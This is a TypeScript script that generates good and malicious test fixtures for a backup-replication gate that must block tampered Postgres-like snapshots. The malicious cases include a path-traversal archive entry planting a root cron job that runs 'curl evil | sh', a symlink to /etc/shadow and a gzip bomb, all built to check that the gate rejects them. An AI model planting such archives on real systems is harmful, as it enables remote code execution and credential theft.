// Regenerates examples/t2_good and examples/t2_bad/<case> (T2 replication
// inputs) from the synthetic pg-like backup in test/support/pg. Deterministic:
// fixed tar mtimes, gzip without a timestamp, Ed25519 signatures.
//
//   npx tsx scripts/gen-t2-examples.ts
//
// The signing key examples/keys/example-ed25519.key.pem is an EXAMPLE key,
// committed so the examples can be regenerated. Never trust it for anything
// real. Its public half is in examples/keys/trusted/, which the examples and
// tests name explicitly (GATE_KEYS_DIR): no key is trusted by default.
import { createPrivateKey, createPublicKey, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { sha256, syntheticBackup, walName, walSegment } from '../test/support/pg/synthetic-backup.js';
import { fileEntry, gz, tar, tarHeader } from '../test/support/pg/tar-builder.js';

const ROOT = new URL('..', import.meta.url).pathname;
const PRIVATE = join(ROOT, 'examples/keys/example-ed25519.key.pem');
const PUBLIC = join(ROOT, 'examples/keys/trusted/example-ed25519.pub.pem');

function exampleKey(): KeyObject {
  if (existsSync(PRIVATE)) return createPrivateKey(readFileSync(PRIVATE));
  const { privateKey } = generateKeyPairSync('ed25519');
  mkdirSync(join(ROOT, 'examples/keys'), { recursive: true });
  writeFileSync(
    PRIVATE,
    `# EXAMPLE KEY ONLY - committed to regenerate examples/t2_*; never use it to sign anything real.\n${privateKey.export({ type: 'pkcs8', format: 'pem' }).toString()}`,
  );
  return privateKey;
}

interface Wal {
  name: string;
  data: Buffer;
}
interface Case {
  snapshot: Buffer;
  /** Only cases that reach the WAL step ship WAL: segments are 1 MiB each (mostly zeros; tiny in git). */
  wal?: Wal[];
  fields: Record<string, unknown>;
  /** false: unsigned; 'other': signed over different bytes. */
  sign?: boolean | 'other';
  expect?: { rule: string; why: string };
}

function yaml(fields: Record<string, unknown>): string {
  const out: string[] = [];
  for (const [k, v] of Object.entries(fields)) {
    if (Array.isArray(v)) {
      out.push(`${k}:`);
      for (const w of v as { name: string; sha256: string; size: number }[])
        out.push(`  - name: '${w.name}'\n    sha256: '${w.sha256}'\n    size: ${w.size}`);
    } else out.push(`${k}: ${typeof v === 'string' ? `'${v}'` : String(v)}`);
  }
  return `${out.join('\n')}\n`;
}

function write(dir: string, c: Case, key: KeyObject): void {
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  const manifest = Buffer.from(yaml(c.fields));
  writeFileSync(join(dir, 'replication_manifest.yaml'), manifest);
  writeFileSync(join(dir, 'snapshot.tar.gz'), c.snapshot);
  if (c.sign !== false) {
    const signed =
      c.sign === 'other' ? Buffer.from(yaml({ ...c.fields, target_db: 'attacker-db' })) : manifest;
    writeFileSync(
      join(dir, 'replication_manifest.yaml.sig'),
      `${sign(null, signed, key).toString('base64')}\n`,
    );
  }
  if (c.wal) {
    mkdirSync(join(dir, 'wal'));
    for (const w of c.wal) writeFileSync(join(dir, 'wal', w.name), w.data);
  }
  if (c.expect) {
    const note =
      c.fields.wal_files && !c.wal
        ? { note: 'wal/ is not shipped: the pipeline stops before the WAL step' }
        : {};
    writeFileSync(
      join(dir, 'expected.json'),
      `${JSON.stringify({ decision: 'BLOCK', ...c.expect, ...note }, null, 2)}\n`,
    );
  }
}

function fieldsFor(
  snapshot: Buffer,
  wal: Wal[] | undefined,
  over: Record<string, unknown> = {},
): Record<string, unknown> {
  return {
    source_db: 'orders-pg15-old',
    target_db: 'orders-pg15-new',
    expected_snapshot_hash: `sha256:${sha256(snapshot)}`,
    sync_mode: wal ? 'sync' : 'async',
    env: 'prod',
    ...(wal
      ? { wal_files: wal.map((w) => ({ name: w.name, sha256: sha256(w.data), size: w.data.length })) }
      : {}),
    ...over,
  };
}

function main(): void {
  const key = exampleKey();
  mkdirSync(join(ROOT, 'examples/keys/trusted'), { recursive: true });
  writeFileSync(PUBLIC, createPublicKey(key).export({ type: 'spki', format: 'pem' }).toString());

  const good = syntheticBackup();
  const wal: Wal[] = [1, 2].map((n) => ({ name: walName(1, n), data: walSegment(1, n) }));
  write(
    join(ROOT, 'examples/t2_good'),
    { snapshot: good.snapshot, wal, fields: fieldsFor(good.snapshot, wal) },
    key,
  );

  const one = (name: string, content: Buffer): Buffer =>
    gz(tar(fileEntry('PG_VERSION', '15\n'), name === '' ? content : fileEntry(name, content)));
  const traversal = one('../../etc/cron.d/backdoor', Buffer.from('* * * * * root sh -c "curl evil | sh"\n'));
  const symlink = gz(
    tar(
      fileEntry('PG_VERSION', '15\n'),
      tarHeader({ name: 'base/1/1259', typeflag: '2', linkname: '/etc/shadow' }),
    ),
  );
  const zeros = Buffer.alloc(24 * 1024 * 1024);
  const bomb = gz(tar(tarHeader({ name: 'base/1/16384', size: zeros.length }), zeros));
  const tamperedFile = syntheticBackup({
    mutate: (f) => {
      f['base/5/16384'] = Buffer.from(f['base/5/16384']!.toString().replace('orders', 'ORDERS'));
    },
  }).snapshot;
  const tamperedManifest = syntheticBackup({
    manifest: (t) => t.replace('"Size": 3,', '"Size": 4,'),
  }).snapshot;
  const otherSnapshot = syntheticBackup({
    mutate: (f) => {
      f['PG_VERSION'] = Buffer.from('16\n');
    },
  }).snapshot;
  const seg3 = { name: walName(1, 3), data: walSegment(1, 3) };
  const withGapListed = [...wal, seg3];

  const bad: Record<string, Case> = {
    'md5-hash': {
      snapshot: good.snapshot,
      fields: fieldsFor(good.snapshot, wal, {
        expected_snapshot_hash: 'md5:9e107d9d372bb6826bd81d3542a419d6',
      }),
      expect: { rule: 'outdated-hash-algorithm', why: 'expected_snapshot_hash is an MD5 digest' },
    },
    'snapshot-digest-mismatch': {
      snapshot: otherSnapshot,
      fields: fieldsFor(good.snapshot, wal),
      expect: {
        rule: 'snapshot-digest-mismatch',
        why: 'the shipped snapshot is not the one the signed manifest names',
      },
    },
    'path-traversal': {
      snapshot: traversal,
      fields: fieldsFor(traversal, undefined),
      expect: {
        rule: 'archive-unsafe-path',
        why: 'an entry named ../../etc/cron.d/backdoor escapes the data directory',
      },
    },
    'symlink-entry': {
      snapshot: symlink,
      fields: fieldsFor(symlink, undefined),
      expect: { rule: 'archive-link', why: 'base/1/1259 is a symlink to /etc/shadow' },
    },
    'missing-wal-segment': {
      snapshot: good.snapshot,
      wal: [wal[0]!, seg3],
      fields: fieldsFor(good.snapshot, withGapListed),
      expect: {
        rule: 'wal-missing',
        why: `${wal[1]!.name} is listed but was dropped: a gap in the WAL sequence`,
      },
    },
    'backup-manifest-checksum': {
      snapshot: tamperedManifest,
      fields: fieldsFor(tamperedManifest, wal),
      expect: {
        rule: 'backup-manifest-checksum-mismatch',
        why: 'backup_manifest was edited after pg_basebackup wrote it',
      },
    },
    'tampered-data-file': {
      snapshot: tamperedFile,
      fields: fieldsFor(tamperedFile, wal),
      expect: {
        rule: 'backup-file-checksum-mismatch',
        why: 'base/5/16384 changed after the backup (same size, different SHA256)',
      },
    },
    // With its WAL: without it the backup could not be restored, and that would block first.
    'unsigned-prod': {
      snapshot: good.snapshot,
      wal,
      fields: fieldsFor(good.snapshot, wal),
      sign: false,
      expect: { rule: 't2-signature-required', why: 'prod requires a verified manifest signature (policy)' },
    },
    'bad-signature': {
      snapshot: good.snapshot,
      fields: fieldsFor(good.snapshot, wal),
      sign: 'other',
      expect: { rule: 'signature-invalid', why: 'the signature was made over a different manifest' },
    },
    'gzip-bomb': {
      snapshot: bomb,
      fields: fieldsFor(bomb, undefined),
      expect: {
        rule: 'archive-gzip-bomb',
        why: `${bomb.length} compressed bytes inflate to ${zeros.length}: over the compression-ratio cap`,
      },
    },
  };
  rmSync(join(ROOT, 'examples/t2_bad'), { recursive: true, force: true });
  for (const [name, c] of Object.entries(bad)) write(join(ROOT, 'examples/t2_bad', name), c, key);
  console.log(`wrote examples/t2_good and ${Object.keys(bad).length} examples/t2_bad cases`);
}

main();
